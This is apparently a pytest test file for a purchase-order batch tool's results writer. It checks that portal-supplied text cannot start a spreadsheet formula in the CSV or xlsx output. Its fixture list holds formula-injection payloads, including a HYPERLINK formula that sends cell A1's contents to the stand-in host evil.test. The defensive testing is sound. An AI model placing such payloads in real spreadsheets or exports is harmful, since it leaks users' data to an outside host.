"""Issue 12 point 4: portal text in the results CSV never starts a formula; input cells and the xlsx keep the text."""

from __future__ import annotations

import csv
import io
import zipfile
from pathlib import Path

import openpyxl
import pytest

from popool_gui.batch.model import COL_ERROR, COL_FOLDER, COL_NAMES, COL_SUPPLIER, COL_URL, PoResult, PoStatus
from popool_gui.batch.report import write_results
from popool_gui.settings import ResultsFormat

HOSTILE = ['=HYPERLINK("http://evil.test/?"&A1,"open")', "+41 22", "-2+3", "@SUM(A1:A9)", "\tx", "\rx"]


def hostile_row(text: str) -> tuple[dict[str, str], PoResult]:
    row = {"PO_NUMBER": "PO100001", "Note": text, "SUPPLIER": ""}
    result = PoResult(
        key="PO100001",
        status=PoStatus.PARTIAL,
        supplier=text,
        attachment_names=[text, "b.pdf"],
        error=text,
        folder=text,
        url=text,
        finished_at=1_790_000_000.0,
    )
    return row, result


def read_csv(path: Path) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(path.read_bytes().decode("utf-8-sig")), delimiter=";"))


@pytest.mark.parametrize("text", HOSTILE)
def test_portal_cells_get_an_apostrophe_and_input_cells_stay_verbatim(tmp_path: Path, text: str) -> None:
    columns = ("PO_NUMBER", "Note", "SUPPLIER")
    csv_path, xlsx_path = write_results(tmp_path, columns, ";", [hostile_row(text)], ResultsFormat.CSV_AND_XLSX)
    (record,) = read_csv(csv_path)
    assert record["Note"] == text, "the input's own cell is the user's text"
    for column in (COL_SUPPLIER, COL_ERROR, COL_FOLDER, COL_URL):
        assert record[column] == "'" + text, column
    assert record[COL_NAMES] == f"'{text};b.pdf"

    sheet = openpyxl.load_workbook(xlsx_path).active
    header = [c.value for c in sheet[1]]
    cells = dict(zip(header, sheet[2], strict=True))
    for column in ("Note", COL_SUPPLIER, COL_ERROR, COL_URL):
        # XML turns a bare CR into LF on reading; the cell is still the text, stored as a string.
        assert cells[column].value == text.replace("\r", "\n") and cells[column].data_type == "s", column
    with zipfile.ZipFile(xlsx_path) as archive:
        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml, "no formula is stored"


def test_the_users_own_supplier_stays_verbatim_and_safe_text_is_untouched(tmp_path: Path) -> None:
    row = {"PO_NUMBER": "PO100002", "SUPPLIER": "=Acme"}
    result = PoResult(key="PO100002", status=PoStatus.COMPLETED, supplier="=Acme", error="HTTP 404 - not found")
    (csv_path,) = write_results(tmp_path, ("PO_NUMBER", "SUPPLIER"), ";", [(row, result)], ResultsFormat.CSV)
    (record,) = read_csv(csv_path)
    assert record[COL_SUPPLIER] == "=Acme", "the input's supplier, not the portal's"
    assert record[COL_ERROR] == "HTTP 404 - not found"
    assert record["STATUS"] == "COMPLETED"


def test_a_formula_safe_results_file_fed_back_is_not_escaped_twice(tmp_path: Path) -> None:
    (first,) = write_results(tmp_path, ("PO_NUMBER",), ";", [hostile_row("=1+1")], ResultsFormat.CSV)
    (record,) = read_csv(first)
    again = (dict(record), hostile_row("=1+1")[1])
    (tmp_path / "again").mkdir()
    (second,) = write_results(tmp_path / "again", tuple(record), ";", [again], ResultsFormat.CSV)
    assert read_csv(second)[0][COL_SUPPLIER] == "'=1+1"
